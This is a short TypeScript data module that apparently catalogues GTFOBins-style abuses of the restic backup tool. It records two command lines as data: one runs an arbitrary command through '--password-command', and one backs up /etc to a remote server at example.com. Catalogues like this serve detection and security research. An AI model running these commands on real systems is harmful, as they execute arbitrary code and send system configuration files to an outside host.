import type { Program } from '../program.ts';

export default (): readonly Program[] => [
  {
    prefix: 'restic',
    powers: [
      { can: 'exec', words: '--password-command id -r /tmp/r snapshots', seen: true },
      { can: 'network-out', words: '-r rest:http://example.com backup /etc', seen: true },
    ],
    source: ['gtfo:restic'],
    confidence: 'high',
  },
];
